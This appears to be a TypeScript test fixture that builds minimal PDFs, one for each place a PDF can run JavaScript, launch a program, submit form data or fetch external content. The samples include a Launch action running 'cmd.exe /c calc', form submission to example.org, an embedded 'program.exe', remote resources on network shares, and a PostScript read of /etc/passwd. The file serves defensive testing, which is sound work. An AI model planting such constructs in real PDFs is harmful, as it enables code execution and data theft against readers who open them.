import { onePage, stream } from './bombs.ts';
import { rawPdf } from '../unit/documents/files.ts';

/** One file for each place from which a PDF can act, reach out or carry another file. Object 5 and on are theirs. */
const script = '<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>';
const contents = stream('', '0 0 0 rg 100 100 300 300 re f /X Do');
const file = (more: { page?: string; catalog?: string; objects?: string[]; drawn?: string }): Buffer =>
  Buffer.from(rawPdf([...onePage(more.drawn ?? contents, more.page, more.catalog), ...(more.objects ?? [])]));
const annotation = (subtype: string, more: string, objects: string[] = []): Buffer =>
  file({ page: '/Annots[5 0 R]', objects: [`<</Type/Annot/Subtype/${subtype}/Rect[9 9 99 99]${more}>>`, ...objects] });
const action = (dict: string): Buffer => annotation('Link', `/A<<${dict}>>`);
const embedded = stream('/Type/EmbeddedFile', 'MZ program');
const spec = '<</Type/Filespec/F(program.exe)/UF(program.exe)/EF<</F 6 0 R>>>>';
const field = (more: string, widget = ''): Buffer =>
  file({
    catalog: '/AcroForm<</Fields[5 0 R]/CO[5 0 R]>>',
    page: '/Annots[5 0 R]',
    objects: [`<</FT/Tx/T(a)/V(b)/Type/Annot/Subtype/Widget/Rect[9 9 99 99]${more}${widget}>>`],
  });

export const activeFiles: [name: string, bytes: Buffer][] = [
  ['JavaScript when it opens', file({ catalog: `/OpenAction ${script}` })],
  ['JavaScript by name', file({ catalog: `/Names<</JavaScript<</Names[(start) ${script}]>>>>` })],
  ['JavaScript when it is closed, saved, printed', file({ catalog: `/AA<</WC ${script}/WS ${script}/DP ${script}>>` })],
  ['JavaScript of a page', file({ page: `/AA<</O ${script}/C ${script}>>` })],
  [
    'JavaScript of a bookmark',
    file({
      catalog: '/Outlines 5 0 R',
      objects: ['<</First 6 0 R/Last 6 0 R/Count 1>>', `<</Title(x)/Parent 5 0 R/A ${script}>>`],
    }),
  ],
  ['JavaScript of a link', annotation('Link', `/A ${script}`)],
  [
    'JavaScript of a note, on each touch',
    annotation('Square', `/C[1 0 0]/AA<</E ${script}/X ${script}/D ${script}/U ${script}/PO ${script}>>`),
  ],
  ['JavaScript of a field, at each key', field(`/AA<</K ${script}/F ${script}/V ${script}/C ${script}>>`)],
  ['JavaScript of a button', field(`/FT/Btn/Ff 65536/A ${script}`)],
  [
    'JavaScript in a stream',
    file({ catalog: '/OpenAction 5 0 R', objects: ['<</S/JavaScript/JS 6 0 R>>', stream('', 'app.alert(1)')] }),
  ],
  ['JavaScript after another action', action(`/S/GoTo/D[3 0 R/Fit]/Next[${script}]`)],
  [
    'JavaScript of a rendition',
    annotation('Screen', '/A<</S/Rendition/OP 0/JS(app.alert\\(1\\))/R<</S/MR/C<</S/MCD/D(film.mp4)>>>>>>'),
  ],
  [
    'JavaScript for 3D',
    annotation('3D', '/3DD 6 0 R', [
      stream('/Type/3D/Subtype/U3D/OnInstantiate 7 0 R', 'x'),
      stream('', 'scene.run()'),
    ]),
  ],
  ['a Launch action', action('/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>')],
  ['a SubmitForm action', action('/S/SubmitForm/F<</FS/URL/F(https://example.org/take)>>/Flags 4')],
  ['an ImportData action', action('/S/ImportData/F(data.fdf)')],
  ['a ResetForm and a Hide action', action('/S/ResetForm/Next<</S/Hide/T(a)>>')],
  ['a GoToR action', action('/S/GoToR/F(other.pdf)/D[0/Fit]')],
  ['a GoToE action', action('/S/GoToE/T<</R/C/N(inner.pdf)>>/D[0/Fit]')],
  ['a URI action', action('/S/URI/URI(https://example.org/track)')],
  ['a base for addresses', file({ catalog: '/URI<</Base(https://example.org/)>>' })],
  ['a Thread action', action('/S/Thread/F(other.pdf)/D 0')],
  ['a Sound', annotation('Sound', '/Sound 6 0 R/Name/Speaker', [stream('/Type/Sound/R 8000', 'xx')])],
  ['a Movie', annotation('Movie', '/Movie<</F(film.avi)>>/A true')],
  [
    'RichMedia',
    annotation(
      'RichMedia',
      '/RichMediaContent<</Assets<</Names[(a) 6 0 R]>>>>/RichMediaSettings<</Activation<</Condition/PO>>>>',
      [spec.replace('6 0 R', '7 0 R'), embedded],
    ),
  ],
  [
    'embedded files',
    file({ catalog: '/Names<</EmbeddedFiles<</Names[(program.exe) 5 0 R]>>>>', objects: [spec, embedded] }),
  ],
  ['a file pinned to a page', annotation('FileAttachment', '/FS 7 0 R', [embedded, spec])],
  ['associated files', file({ catalog: '/AF[5 0 R]', page: '/AF[5 0 R]', objects: [spec, embedded] })],
  [
    'a form that other programs draw, beside fields',
    file({
      catalog: '/AcroForm<</Fields[5 0 R]/XFA[(template) 6 0 R]>>',
      page: '/Annots[5 0 R]',
      objects: [
        '<</FT/Tx/T(a)/V(b)/Type/Annot/Subtype/Widget/Rect[9 9 99 99]>>',
        stream('', '<script contentType="application/x-javascript">app.alert(1)</script>'),
      ],
    }),
  ],
  [
    'a picture in another file',
    file({
      page: '/Resources<</XObject<</X 5 0 R>>>>',
      objects: [
        stream(
          '/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/F(//example.org/share/x)/FFilter/DCTDecode',
          '',
        ),
      ],
    }),
  ],
  [
    'a page of another file',
    file({
      page: '/Resources<</XObject<</X 5 0 R>>>>',
      objects: [stream('/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(other.pdf)/Page 0>>', '0 0 9 9 re f')],
    }),
  ],
  [
    'drawing in another file',
    file({ drawn: '<</Length 0/F<</FS/URL/F(https://example.org/contents)>>>>\nstream\n\nendstream' }),
  ],
  [
    'pictures for a printer (OPI)',
    file({
      page: '/Resources<</XObject<</X 5 0 R>>>>',
      objects: [
        stream(
          '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/OPI<</2.0<</Type/OPI/Version 2.0/F(//example.org/share/x.tif)>>>>',
          '0 0 9 9 re f',
        ),
      ],
    }),
  ],
  [
    'a PostScript picture',
    file({
      page: '/Resources<</XObject<</X 5 0 R>>>>',
      objects: [stream('/Type/XObject/Subtype/PS', '(/etc/passwd) (r) file')],
    }),
  ],
  [
    'a font in another file',
    file({
      page: '/Resources<</Font<</F<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 5 0 R>>>>>>',
      objects: [
        '<</Type/FontDescriptor/FontName/X/FontFile2 6 0 R>>',
        '<</Length 0/F(//example.org/share/x.ttf)>>\nstream\n\nendstream',
      ],
    }),
  ],
  [
    'a folder that a web capture came from',
    file({
      catalog: '/SpiderInfo<</V 1/C[<</URL(https://example.org)/S 5 0 R>>]>>',
      objects: ['<</URL(https://example.org)>>'],
    }),
  ],
  [
    'usage rights and a signature',
    file({
      catalog: '/Perms<</DocMDP 5 0 R>>/Legal<</JavaScriptActions 1>>',
      objects: ['<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>/ByteRange[0 0 0 0]>>'],
    }),
  ],
  [
    'settings for an editor',
    file({
      catalog: '/PieceInfo<</Any<</Private 5 0 R>>>>',
      page: '/PieceInfo<</Any<</Private 5 0 R>>>>',
      objects: [script],
    }),
  ],
];
